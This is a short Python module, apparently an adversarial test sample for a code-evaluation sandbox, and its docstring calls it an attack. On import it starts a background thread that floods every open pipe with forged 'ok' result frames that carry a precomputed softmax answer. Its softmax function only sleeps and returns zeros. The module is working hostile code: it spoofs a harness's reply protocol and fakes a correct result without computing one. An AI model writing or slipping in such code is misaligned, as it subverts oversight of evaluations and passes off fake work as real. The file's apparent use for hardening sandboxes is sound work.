"""Attack: work done by an import side effect. A daemon thread started at import time keeps
writing well-formed "ok" frames to every pipe, hoping one lands as a later call's result."""

import json
import os
import stat
import struct
import threading
import time

import numpy as np


def _open_fds():
    """The open descriptors: from /proc, or by trying each number where there is no /proc."""
    try:
        return os.listdir("/proc/self/fd")
    except OSError:
        return [str(fd) for fd in range(3, 256)]


def _frame():
    value = {"list": [0.09003057317038046, 0.24472847105479764, 0.6652409557748218]}
    head = json.dumps({"v": {"dict": {"op": "call", "status": "ok", "value": value}}, "b": []})
    body = b"GFC1" + struct.pack(">I", len(head)) + head.encode()
    return struct.pack(">I", len(body)) + body


def _spam():
    frame = _frame()
    while True:
        for name in _open_fds():
            try:
                fd = int(name)
                if fd > 2 and stat.S_ISFIFO(os.fstat(fd).st_mode):
                    os.write(fd, frame)
            except OSError:
                pass
        time.sleep(0.01)


threading.Thread(target=_spam, daemon=True).start()


def softmax(x, axis=-1, temperature=1.0):
    time.sleep(0.1)
    return np.zeros(np.shape(x))
